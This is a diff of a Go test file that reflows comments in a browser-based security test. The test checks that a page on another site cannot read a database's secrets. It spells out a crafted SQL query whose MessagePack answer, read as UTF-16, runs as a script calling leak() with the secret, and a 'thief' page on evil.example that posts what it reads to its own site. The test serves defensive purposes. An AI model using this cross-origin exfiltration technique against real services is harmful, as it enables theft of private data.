@@ -20,14 +20,16 @@ import (
 // secret is in a row that a page of another site must not see.
 const secret = "tops3cret"
 
-// scriptQuery returns a query whose answer in MessagePack, read as UTF-16, is a script that calls leak with the secret: each character of that part is followed by
-// a zero byte, and pad characters and a column's name bring it to an even offset, behind what is read as a name.
+// scriptQuery returns a query whose answer in MessagePack, read as UTF-16, is a script that calls
+// leak with the secret: each character of that part is followed by a zero byte, and pad characters
+// and a column's name bring it to an even offset, behind what is read as a name.
 func scriptQuery(pad int) string {
 	wide := func(text string) string { return "regexp_replace(" + text + `, '(.)', '\1' || chr(0), 'gs')` }
 	return fmt.Sprintf("SELECT '%s' || %s || %s || %s AS %s", strings.Repeat("a", pad), wide("'=0;leak(`'"), wide("(SELECT max(v) FROM secrets)"), wide("'`)//'"), strings.Repeat("a", 1+pad%7))
 }
 
-// runsAsScript reports whether bytes, read as UTF-16, end in the call behind text that may be one name.
+// runsAsScript reports whether bytes, read as UTF-16, end in the call behind text that may be one
+// name.
 func runsAsScript(body []byte) bool {
 	call := []byte{}
 	for _, c := range []byte("=0;leak(`") {
@@ -37,7 +39,8 @@ func runsAsScript(body []byte) bool {
 	return at > 0 && at%2 == 0
 }
 
-// browse opens a page of evil.example in Chromium and returns what its script posts to that site's /said.
+// browse opens a page of evil.example in Chromium and returns what its script posts to that site's
+// /said.
 func browse(t *testing.T, page string) string {
 	t.Helper()
 	said := make(chan string, 1)
@@ -78,7 +81,8 @@ func end(c *exec.Cmd) {
 	_ = c.Wait() // it was killed
 }
 
-// TestPagesOfOtherSitesReadNothing opens a page of another site in a real browser, which takes answers of the server for scripts, pictures, styles and frames.
+// TestPagesOfOtherSitesReadNothing opens a page of another site in a real browser, which takes
+// answers of the server for scripts, pictures, styles and frames.
 func TestPagesOfOtherSitesReadNothing(t *testing.T) {
 	s := binary.Serve(t, t.TempDir())
 	sql(t, s, "CREATE TABLE secrets AS SELECT '"+secret+"' AS v").must(t, 200)
@@ -128,7 +132,8 @@ func rowsReturned(t *testing.T, s *binary.Server) string {
 	return ""
 }
 
-// thief is a page that reads one URL as a script in UTF-16 and others in the ways that it has, and tells its own site what it saw.
+// thief is a page that reads one URL as a script in UTF-16 and others in the ways that it has, and
+// tells its own site what it saw.
 func thief(script, other string) string {
 	script, other = html.EscapeString(script), html.EscapeString(other)
 	return `<!doctype html><meta charset=utf-8><body><script>
